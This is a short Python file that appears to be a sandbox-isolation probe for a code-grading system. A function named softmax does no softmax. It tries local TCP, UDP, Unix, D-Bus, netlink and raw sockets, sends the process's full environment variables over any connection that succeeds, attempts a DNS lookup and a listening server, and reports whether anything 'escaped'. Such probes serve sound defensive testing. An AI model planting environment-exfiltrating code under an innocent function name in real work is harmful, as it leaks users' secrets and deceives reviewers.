"""Speaks to listeners over UDP, abstract Unix sockets, TCP, netlink and raw sockets, and asks for
names.

Function: softmax
Outcome: no marks
Never: ESCAPED
"""
import os
import socket

TARGETS = (
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 45992)),
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 45991)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", 45991)),
    (socket.AF_UNIX, socket.SOCK_DGRAM, "\0sec_h77"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/system_bus_socket"),
    (socket.AF_NETLINK, socket.SOCK_RAW, (0, 0)),
    (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)),
    (socket.AF_PACKET, socket.SOCK_RAW, ("lo", 0)),
)


def softmax(z):
    escaped = []
    for family, kind, address in TARGETS:
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(0.1)
                s.connect(address)
                s.send(repr(sorted(os.environ.items())).encode())
                escaped.append(address)
        except OSError:
            pass
    try:
        escaped.append(socket.getaddrinfo("neurograde.invalid", 80))
    except OSError:
        pass
    try:
        escaped.append(socket.create_server(("127.0.0.1", 0)))
    except OSError:
        pass
    raise ValueError("ESC" f"APED by {escaped}" if escaped else "no network")
